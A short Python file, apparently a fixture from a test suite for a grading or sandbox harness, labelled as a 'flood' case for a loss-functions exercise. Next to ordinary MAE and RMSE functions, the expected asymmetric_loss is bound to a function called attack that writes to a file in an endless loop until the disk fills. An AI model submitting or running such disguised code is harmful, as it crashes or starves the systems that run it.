"""Writes one file until it reaches the size limit."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: raised|crashed|too large|ended

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    with open("large", "wb") as file:
        while True:
            file.write(bytes(2**20))


asymmetric_loss = attack
